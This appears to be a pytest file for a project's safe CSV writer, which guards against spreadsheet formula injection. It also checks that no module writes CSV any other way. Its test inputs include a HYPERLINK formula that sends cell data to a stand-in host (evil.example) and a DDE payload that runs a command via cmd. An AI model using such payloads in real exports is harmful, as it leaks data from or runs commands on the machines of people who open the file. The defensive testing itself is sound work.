"""The safe CSV writer: dangerous text is neutralised, numbers stay numbers, and no module
writes CSV any other way."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from core.csv import SafeWriter, csv_response, neutralise

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0x",
        "  =1+1",  # a spreadsheet may trim the spaces first
        "\u00a0=1+1",  # and a no-break space
    ],
)
def test_dangerous_text_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Maya R.", "maya@example.org", "2/3", "3 - 1", "a=b", "fewer than 3", "", "'x"]
)
def test_ordinary_text_is_untouched(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-3, 0, 2.5, -0.5, Decimal("-1.25"), None, True])
def test_non_text_values_are_untouched(value):
    assert neutralise(value) is value


def _written(rows) -> str:
    buffer = io.StringIO()
    SafeWriter(buffer).writerows(rows)
    return buffer.getvalue()


def test_writer_neutralises_cells_and_keeps_numbers_numeric():
    text = _written([["name", "hours"], ["=cmd|' /C calc'!A0", -3], ["Ana", Decimal("1.5")]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "hours"], ["'=cmd|' /C calc'!A0", "-3"], ["Ana", "1.5"]]
    assert "\r\n-3\r\n" not in text and ",-3\r\n" in text  # the number is written bare


def test_a_separator_or_quote_cannot_start_a_new_cell():
    text = _written([["Ana,=1+1", 'say "=2+2"']])
    assert text == '"Ana,=1+1","say ""=2+2"""\r\n'
    assert list(csv.reader(io.StringIO(text))) == [["Ana,=1+1", 'say "=2+2"']]


def test_csv_response_is_a_safe_attachment():
    response = csv_response("report.csv", [["name"], ["@evil"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report.csv"'
    assert response.content.decode() == "name\r\n'@evil\r\n"


WRITER_CALL = re.compile(
    r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"
)


SELF = {Path("core/csv.py"), Path("tests/core/test_csv.py")}


def test_no_module_writes_csv_except_through_core_csv():
    """Every export must use core.csv; a direct csv.writer would skip the neutralising."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "var", "node_modules"} or relative in SELF:
            continue
        if WRITER_CALL.search(path.read_text(encoding="utf-8")):
            offenders.append(str(relative))
    assert offenders == []
    # The guard sees the real thing: core/csv.py itself matches.
    assert WRITER_CALL.search((ROOT / "core" / "csv.py").read_text(encoding="utf-8"))
